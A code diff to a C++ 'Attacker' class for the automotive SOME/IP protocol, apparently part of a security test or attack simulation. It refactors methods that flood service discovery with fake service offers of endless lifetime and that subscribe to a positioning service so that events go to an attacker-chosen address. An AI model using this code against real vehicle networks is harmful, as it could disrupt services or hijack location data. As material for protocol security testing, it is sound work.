@@ -72,26 +72,16 @@ class Attacker {
   void offer(std::uint32_t first, std::uint32_t count, const sockaddr_in& to) {
     someip::Discovery_writer writer;
     for (std::uint32_t i = first; i < first + count; ++i) {
-      someip::Entry entry;
-      entry.type = someip::Entry_type::offer_service;
-      entry.service = static_cast<std::uint16_t>(0x3000 + i % 0xC000);
-      entry.instance = static_cast<std::uint16_t>(1 + i / 0xC000 % 0xFFFE);
-      entry.major_version = 1;
-      entry.ttl = someip::endless_ttl;
-      (void)writer.add(entry, {udp_option(attacker_address, 4000)});
+      const auto service = static_cast<std::uint16_t>(0x3000 + i % 0xC000);
+      const auto instance = static_cast<std::uint16_t>(1 + i / 0xC000 % 0xFFFE);
+      (void)writer.add(offer_of(service, instance, 1, someip::endless_ttl),
+                       {udp_option(attacker_address, 4000)});
     }
     send(writer, to);
   }
   void subscribe(std::uint16_t port, const sockaddr_in& to) {
-    someip::Entry entry;
-    entry.type = someip::Entry_type::subscribe;
-    entry.service = positioning_service;
-    entry.instance = 1;
-    entry.major_version = 3;
-    entry.event_group = 1;
-    entry.ttl = 3;
     someip::Discovery_writer writer;
-    (void)writer.add(entry, {udp_option(attacker_address, port)});
+    (void)writer.add(subscription(1, 3, 3), {udp_option(attacker_address, port)});
     send(writer, to);
   }
   void first_segment(const sockaddr_in& to) {
